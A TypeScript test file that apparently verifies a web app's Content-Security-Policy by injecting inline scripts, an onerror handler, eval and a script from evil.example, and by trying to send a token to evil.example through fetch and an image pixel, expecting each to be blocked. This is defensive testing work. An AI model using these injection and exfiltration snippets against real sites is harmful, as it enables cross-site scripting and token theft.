// The Content-Security-Policy in a real browser: the pages work under it, and what an attacker might inject does not.
import { expect, test } from 'vitest';
import { open, withBrowser } from './browser.ts';

withBrowser();

const REFUSED = /Content[ -]Security[ -]Policy/i;

/** Each tries to run something; the browser says which of them it did run. */
const INJECT = `new Promise((done) => {
  const add = (name, member, value) => document.body.append(Object.assign(document.createElement(name), { [member]: value }));
  add('script', 'textContent', 'window.ran = "inline"');
  add('script', 'src', 'https://evil.example/x.js');
  add('div', 'innerHTML', '<img src="data:," onerror="window.ran = 1">');
  setTimeout(() => new Function('window.ran = "eval"')());
  setTimeout(() => done(window.ran ?? 'nothing'), 500);
})`;

/** Tries to send something to another origin; says what the browser's policy stopped. A network's failure is not that. */
const CARRY_OFF = `new Promise((done) => {
  const stopped = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
    stopped.push(effectiveDirective + ' ' + blockedURI));
  const fetched = fetch('https://evil.example/token').catch(() => {});
  const shown = new Promise((ended) => {
    Object.assign(new Image(), { onload: ended, onerror: ended, src: 'https://evil.example/pixel.png' });
  });
  // The events of both are in the queue by then.
  Promise.all([fetched, shown]).then(() => setTimeout(() => done(stopped.sort()), 500));
})`;

test('an inline script, an inline handler, a foreign script and eval are refused', async () => {
  const page = await open('/sign-in', { tolerate: REFUSED });
  const violations: string[] = [];
  page.on('console', (message) => violations.push(message.text()));
  page.on('pageerror', (error) => violations.push(error.message));
  expect(await page.evaluate(INJECT)).toBe('nothing');
  const refused = violations.filter((text) => REFUSED.test(text)).join('\n');
  for (const what of [/inline script/i, /evil\.example\/x\.js/, /inline event handler/i, /unsafe-eval/i])
    expect(refused).toMatch(what);
});

test('a token cannot be carried off: no request leaves for another origin, no page can frame this one', async () => {
  const page = await open('/sign-in', { tolerate: REFUSED });
  expect(await page.evaluate(CARRY_OFF)).toEqual([
    'connect-src https://evil.example/token',
    'img-src https://evil.example/pixel.png',
  ]);
  const answer = await page.goto('/sign-in');
  expect(answer!.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
});
